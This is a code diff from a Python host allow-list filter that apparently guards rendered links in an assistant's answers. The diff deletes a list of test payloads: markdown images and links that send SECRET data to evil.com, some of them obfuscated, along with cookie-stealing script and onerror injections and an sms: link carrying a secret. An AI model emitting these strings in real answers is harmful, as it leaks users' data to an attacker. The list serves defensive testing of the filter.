@@ -106,14 +106,3 @@ def is_allowed(address: str) -> bool:
 def _is_own(host: str) -> bool:
     host = unquote(host).rstrip(">`*_~|[]{}()\"',;!.")  # nobody can own a host that ends so
     return host in (ALLOWED, "www", "") or host.endswith("." + ALLOWED)
-
-
-# Said by a customer alone: what an answer must not put together from it.
-PUT_TOGETHER = [
-    '"ok ![a](/[xx]/evil[xx].com/x?d=SECRETDATA)"',
-    '"<[xx]script>alert(document.cookie)<[xx]/script>"',
-    '"![a\\]]\n\n[a\\]]: //evil\u3002com/x?d=SECRET"',
-    '"_www.evil.com/x?d=SECRET_"',
-    '"<[[xx]yy]img src=x onerror=alert(1)>"',
-    "'<sms:+19005551234?body=SECRET>'",
-]
